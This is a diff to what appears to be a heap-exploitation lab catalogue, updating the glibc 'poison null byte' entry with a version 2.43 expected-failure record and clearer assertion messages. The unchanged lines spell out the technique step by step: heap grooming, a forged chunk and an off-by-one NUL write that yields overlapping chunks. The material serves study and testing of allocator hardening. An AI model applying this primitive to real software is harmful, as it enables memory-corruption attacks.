@@ -56,7 +56,16 @@ technique({
   name: "poison_null_byte (2.29+ program)",
   claim: "a free chunk consolidated with a fake chunk overlaps a live one",
   arches: ["x86_64"],
-  outcomes: on(GLIBC_VERSIONS, "works"),
+  outcomes: {
+    ...on(GLIBC_VERSIONS, "works"),
+    // 2.43 makes the tcache lazily, at the first exact fit taken from the unsorted bin (here a
+    // 0x500 chunk: the tcache is made for any size); its 0x310 chunk comes from the chunks the
+    // technique arranged. 2.44 no longer stashes exact fits, so nothing is made there.
+    "2.43": {
+      fails: "the tcache is made from the arranged chunks",
+      assertion: "malloc(0x4f0) returns victim",
+    },
+  },
   run(lab: Lab) {
     const h = lab.heap, proc = lab.proc, mem = proc.memory;
     // Pad the heap so that prev's chunk starts at an address ending in 0x0000: its user
@@ -66,7 +75,7 @@ technique({
     const prev = h.malloc(0x500);
     const victim = h.malloc(0x4f0);
     h.malloc(0x10);
-    assert.equal(prev & 0xffff, 0x10);
+    assert.equal(prev & 0xffff, 0x10, "prev's chunk starts at a 64 KiB boundary");
     const a = h.malloc(0x4f0);
     h.malloc(0x10);
     const b = h.malloc(0x510);
@@ -76,22 +85,22 @@ technique({
     h.free(prev);
     h.malloc(0x1000); // sorts a, b and prev into one large bin
     // prev's fd_nextsize / bk_nextsize now name a and b: they become the fake chunk's fd/bk.
-    assert.equal(h.malloc(0x500), prev);
+    assert.equal(h.malloc(0x500), prev, "malloc(0x500) returns prev from the large bin");
     lab.setWord(prev, 1, 0x501); // fake chunk inside prev, 0x10 smaller
     lab.write(prev + 0x500, 0x500); // its footer
     const b2 = h.malloc(0x510); // b keeps a stale fd to a: point it at the fake chunk
-    assert.equal(b2, b);
+    assert.equal(b2, b, "malloc(0x510) returns b");
     mem.write8(b2, 0x10);
     mem.write8(b2 + 1, 0x00);
     const a2 = h.malloc(0x4f0);
     h.free(a2);
     h.free(victim); // a->bk now names victim
     const a3 = h.malloc(0x4f0);
-    assert.equal(a3, a);
+    assert.equal(a3, a, "malloc(0x4f0) returns a");
     mem.write8(a3 + 8, 0x10); // and a->bk names the fake chunk
     mem.write8(a3 + 9, 0x00);
     const victim2 = h.malloc(0x4f0);
-    assert.equal(victim2, victim);
+    assert.equal(victim2, victim, "malloc(0x4f0) returns victim");
     lab.vulnerability();
     mem.write8(victim2 - 8, 0x00); // the off-by-one NUL: clears PREV_INUSE
     h.free(victim); // consolidates backwards with the fake chunk
